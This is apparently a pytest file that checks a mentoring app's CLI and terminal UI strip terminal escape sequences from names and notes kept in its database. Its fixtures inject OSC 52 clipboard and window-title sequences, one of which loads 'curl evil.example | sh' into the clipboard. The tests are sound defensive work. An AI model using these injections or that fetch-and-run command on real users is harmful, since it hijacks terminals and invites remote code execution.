"""A name or a note cannot command the reader's terminal.

A partner's app, an import or a paste can put anything in a name or a note. Printed by the
CLI or drawn by the app, OSC 52 would set the reader's clipboard and OSC 0/2 the window
title. The hostile text goes into the database file as another program would write it.
"""

from __future__ import annotations

import base64
import json
import sqlite3
import subprocess
import sys

import pytest
from tmux_terminal import APP

from mentor_tui.core.text import printable

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
TITLE = "\x1b]0;PWNED-TITLE\x07"
HOSTILE_NAME = f"Dr Lukas{CLIPBOARD} Berg{TITLE}"
HOSTILE_NOTE = f"Checked every reference{TITLE}\x1b[2J by hand.\x9b31m{CLIPBOARD}\u202eevil"
ESC_OR_C1 = [b"\x1b", "\x9b".encode(), "\x9d".encode(), "\u202e".encode()]


@pytest.fixture
def hostile_db(demo_db):
    with sqlite3.connect(demo_db) as conn:
        conn.execute(
            "UPDATE people SET display_name = ? WHERE display_name = 'Dr Lukas Berg'",
            (HOSTILE_NAME,),
        )
        conn.execute(
            "UPDATE notes SET body = ? WHERE body LIKE 'Showed how to use an assistant%'",
            (HOSTILE_NOTE,),
        )
    conn.close()
    return demo_db


def cli(db, *args: str, env) -> bytes:
    done = subprocess.run(
        [sys.executable, "-m", "mentor_tui", "--db", str(db), *args],
        capture_output=True, env=env, timeout=60, check=True,
    )
    return done.stdout + done.stderr


def strings(value) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


def assert_inert(output: bytes) -> None:
    for sequence in ESC_OR_C1:
        assert sequence not in output, f"{sequence!r} reaches the terminal:\n{output!r}"


def test_people_list_prints_no_control_sequence(hostile_db, cli_env):
    output = cli(hostile_db, "people", "list", env=cli_env)
    assert_inert(output)
    assert b"Dr Lukas Berg" in output


def test_sessions_show_prints_no_control_sequence(hostile_db, cli_env):
    output = cli(hostile_db, "sessions", "show", "--last", env=cli_env)
    assert_inert(output)
    assert b"- Dr Lukas Berg: Checked every reference by hand." in output
    assert_inert(cli(hostile_db, "sessions", "show", "--last", "--markdown", env=cli_env))


def test_json_keeps_the_text_but_escapes_it(hostile_db, cli_env):
    output = cli(hostile_db, "people", "list", "--json", env=cli_env)
    assert_inert(output)
    assert HOSTILE_NAME in [p["display_name"] for p in json.loads(output)]
    output = cli(hostile_db, "sessions", "show", "--last", "--json", env=cli_env)
    assert_inert(output)  # the note's C1 CSI and bidi override too
    assert HOSTILE_NOTE in strings(json.loads(output))  # escaped, not lost: scripts get it all


@pytest.mark.e2e
def test_the_app_sets_neither_clipboard_nor_title(tmux, hostile_db):
    tmux.start_reporting("app", f"{APP} --db {hostile_db}")
    tmux.wait_for("app", "Who is at the keyboard?")  # the hostile name is in this list too
    assert "Dr Lukas Berg" in tmux.screen("app")
    tmux.keys("app", "Enter")
    tmux.wait_for("app", "Amara & Lukas")
    # History, with the last session open: the names and the note as the app draws them.
    tmux.keys("app", "C-p")
    tmux.wait_for("app", "Search for commands")
    tmux.keys("app", "History", literal=True)
    tmux.wait_for("app", "Past sessions and note search")
    tmux.keys("app", "Enter")
    tmux.wait_for("app", "Reverse mentoring")
    tmux.keys("app", "Enter")
    tmux.wait_for("app", "Checked every reference by hand.")
    assert "PWNED" not in tmux.title("app")
    assert tmux.buffers() == ""  # OSC 52 would have put a paste buffer there
    tmux.keys("app", "C-q")
    assert tmux.exit_status("app") == 0


def test_printable_removes_every_kind_of_sequence():
    assert printable(HOSTILE_NAME) == "Dr Lukas Berg"
    assert printable("tab\tand\nnewline stay; CR\r, BEL\x07, DEL\x7f go") == (
        "tab\tand\nnewline stay; CR, BEL, DEL go"
    )
    assert printable("\x1bP1;2|data\x1b\\ok \x1b_apc\x9c\x1b^pm\x1b\\\x1bc\x1b(B") == "ok "
    assert printable("unterminated \x1b]52;c;c2VjcmV0") == "unterminated "
    assert printable("Zoë Ñúñez 😀 عربى") == "Zoë Ñúñez 😀 عربى"
